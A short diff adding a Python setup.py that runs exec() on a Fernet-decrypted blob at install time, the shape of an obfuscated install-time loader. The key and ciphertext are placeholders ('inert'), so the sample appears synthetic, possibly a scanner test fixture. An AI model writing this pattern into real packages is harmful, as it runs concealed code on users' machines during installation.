@@ -1,0 +1,4 @@
+from setuptools import setup
+from fernet import Fernet
+exec(Fernet(b'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=').decrypt(b'gAAAAABinert'))
+setup(name="x")
